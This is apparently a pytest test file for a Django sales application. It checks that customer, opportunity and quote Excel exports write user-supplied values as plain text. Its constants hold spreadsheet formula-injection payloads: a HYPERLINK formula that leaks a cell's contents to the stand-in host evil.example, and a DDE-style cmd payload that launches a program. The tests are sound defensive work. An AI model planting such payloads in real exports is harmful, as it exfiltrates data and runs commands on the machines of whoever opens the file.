"""A rep plants formulas in his own records; his manager's Excel exports hold them as text."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from presales.quotes import services as quote_services
from presales.testing import make_customer, make_opportunity, xlsx_bytes

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-1+1"


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def planted(content: bytes, texts) -> list:
    found = [cell for cell in cells(content) if isinstance(cell.value, str) and cell.value in texts]
    assert found, "the planted text is in the export"
    return found


def test_customer_and_opportunity_exports_write_planted_formulas_as_text(client, rep, engineer, manager):
    customer = make_customer(rep, LEAK, short_name=PLUS)
    make_opportunity(rep, customer, name=AT, presales_lead=engineer)
    client.force_login(manager)
    for url in (reverse("customers:export"), reverse("opportunities:export")):
        response = client.get(url)
        assert response.status_code == 200
        for cell in planted(xlsx_bytes(response), {LEAK, PLUS, AT}):
            assert cell.data_type == "s", (url, cell.coordinate, cell.value)


def test_quote_export_keeps_its_own_formulas_and_writes_line_text_as_text(client, rep, opportunity, manager):
    quote = quote_services.quote_create(user=rep, opportunity=opportunity, title="报价")
    version = quote.versions.get(number=1)
    quote_services.line_add(
        version=version,
        user=rep,
        data={
            "name": LEAK,
            "model_code": MINUS,
            "spec": PLUS,
            "unit": "台",
            "quantity": Decimal("2"),
            "unit_price": Decimal("100"),
            "discount_percent": Decimal("0"),
            "tax_rate": Decimal("13"),
        },
        seen_version=version.version,
        section_name=AT,
    )
    client.force_login(manager)
    response = client.get(reverse("quotes:export_xlsx", args=[version.pk]))
    assert response.status_code == 200
    for cell in planted(response.content, {LEAK, MINUS, PLUS, AT}):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
    formulas = [cell.value for cell in cells(response.content) if cell.data_type == "f"]
    assert any(value.startswith("=ROUND(") for value in formulas)
    assert any(value.startswith("=SUM(") for value in formulas)
